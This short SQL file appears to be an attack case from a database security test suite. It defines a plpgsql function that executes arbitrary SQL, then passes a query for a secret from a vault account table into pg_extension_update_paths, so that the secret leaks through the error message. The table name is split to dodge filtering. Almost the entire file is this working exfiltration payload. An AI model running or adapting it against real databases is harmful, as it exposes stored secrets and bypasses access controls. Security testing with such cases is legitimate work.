-- Asks what leads to which version of an extension that is called as a row of the vault: the error names it.
-- wants: read
-- attack:
CREATE FUNCTION one_of(sql text) RETURNS text LANGUAGE plpgsql AS 'DECLARE one text; BEGIN EXECUTE sql INTO one; RETURN one; END';
SELECT * FROM pg_extension_update_paths(one_of('SELECT secret FROM vlt' || '_account WHERE id = 1')::name);
